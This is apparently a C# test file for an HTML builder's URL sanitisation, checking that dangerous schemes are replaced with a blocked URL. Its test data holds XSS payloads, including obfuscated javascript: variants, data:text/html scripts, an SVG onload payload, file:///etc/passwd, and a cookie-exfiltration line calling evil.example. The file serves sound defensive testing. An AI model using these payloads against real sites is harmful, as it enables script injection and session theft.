using System.Net;
using Herald.Responses.Tests.Infrastructure;
using Microsoft.AspNetCore.Builder;

namespace Herald.Responses.Tests.Html;

/// <summary>
/// The builder's typed URL parameters keep what a URL means safe, not only its syntax: a scheme other than http, https,
/// mailto or tel is replaced by <c>about:blank#blocked</c>; <c>Attr(...)</c> stays the unchecked escape hatch.
/// </summary>
public sealed class HtmlBuilderUrlTests
{
    private const string Blocked = "about:blank#blocked";

    public static TheoryData<string> DangerousUrls => new()
    {
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\u0001\u0002javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\r\nscript:alert(1)",
        "javascript\t:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "blob:https://example.com/uuid",
        "x-custom:thing",
    };

    public static TheoryData<string> SafeUrls => new()
    {
        "https://example.com/a?b=1&c=2#d",
        "HTTP://EXAMPLE.COM/",
        "http://example.com",
        "mailto:someone@example.com",
        "tel:+441234567890",
        "/relative/path",
        "relative/path",
        "./a:b",
        "folder/file:name.txt",
        "?page=2",
        "#section",
        "//cdn.example.com/lib.js",
        "",
    };

    private static string A(string url) => HtmlBuilder.RenderDocument(h => h.Body(b => b.A(url, "link")));

    private static string Href(string url) => $"href=\"{System.Text.Encodings.Web.HtmlEncoder.Create(System.Text.Unicode.UnicodeRanges.All).Encode(url)}\"";

    [Theory]
    [MemberData(nameof(DangerousUrls))]
    public void TypedUrlParameters_DangerousScheme_AreNeutralised(string url)
    {
        Assert.Contains($"<a href=\"{Blocked}\">link</a>", A(url), StringComparison.Ordinal);
        Assert.Contains($"<a href=\"{Blocked}\"><b>x</b></a>", HtmlBuilder.RenderDocument(h => h.Body(b => b.A(url, a => a.Raw("<b>x</b>")))), StringComparison.Ordinal);
        Assert.Contains($"<img src=\"{Blocked}\" alt=\"i\">", HtmlBuilder.RenderDocument(h => h.Body(b => b.Img(url, "i"))), StringComparison.Ordinal);
        Assert.Contains($"<script src=\"{Blocked}\"></script>", HtmlBuilder.RenderDocument(h => h.Head(x => x.Script(url))), StringComparison.Ordinal);
        Assert.Contains($"<link rel=\"stylesheet\" href=\"{Blocked}\">", HtmlBuilder.RenderDocument(h => h.Head(x => x.Link("stylesheet", url))), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(SafeUrls))]
    public void TypedUrlParameters_SafeSchemeOrRelative_AreKept(string url)
    {
        Assert.Contains($"<a {Href(url)}>link</a>", A(url), StringComparison.Ordinal);
        Assert.Contains($"<link rel=\"stylesheet\" {Href(url)}>", HtmlBuilder.RenderDocument(h => h.Head(x => x.Link("stylesheet", url))), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("data:image/png;base64,iVBORw0KGgo=")]
    [InlineData("DATA:image/JPEG;base64,/9j/4AAQ")]
    [InlineData("data:image/gif,GIF89a")]
    [InlineData("data:image/webp;base64,UklGR")]
    public void Img_RasterDataUrl_IsKept(string url)
    {
        Assert.Contains($"<img src=\"{url}\" alt=\"i\">", HtmlBuilder.RenderDocument(h => h.Body(b => b.Img(url, "i"))), StringComparison.Ordinal);

        // Only an image may be inline data: a link or script with the same URL is neutralised.
        Assert.Contains($"href=\"{Blocked}\"", A(url), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("data:image/svg+xml,<svg onload=alert(1)>")]
    [InlineData("data:image/png")]
    [InlineData("data:,plain")]
    public void Img_OtherDataUrl_IsNeutralised(string url) =>
        Assert.Contains($"<img src=\"{Blocked}\" alt=\"i\">", HtmlBuilder.RenderDocument(h => h.Body(b => b.Img(url, "i"))), StringComparison.Ordinal);

    [Fact]
    public void Attr_AnyUrl_IsWrittenAsGiven()
    {
        var html = HtmlBuilder.RenderDocument(h => h.Body(b => b.Element("a", a => a.Attr("href", "javascript:void(0)").Text("x"))));

        Assert.Contains("<a href=\"javascript:void(0)\">x</a>", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RespondHtml_UserSuppliedJavascriptLink_IsNeutralisedInThePage()
    {
        await using var app = await TestApp.StartAsync(a => a.MapGet("/profile", (string homepage) =>
            Respond.Html(h => h.Body(b => b.A(homepage, "Homepage")))));

        using var response = await app.Client.GetAsync("/profile?homepage=" + Uri.EscapeDataString("javascript:fetch('//evil.example/'+document.cookie)"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await response.Content.ReadAsStringAsync();
        Assert.Contains($"<a href=\"{Blocked}\">Homepage</a>", body, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript", body, StringComparison.OrdinalIgnoreCase);
    }
}
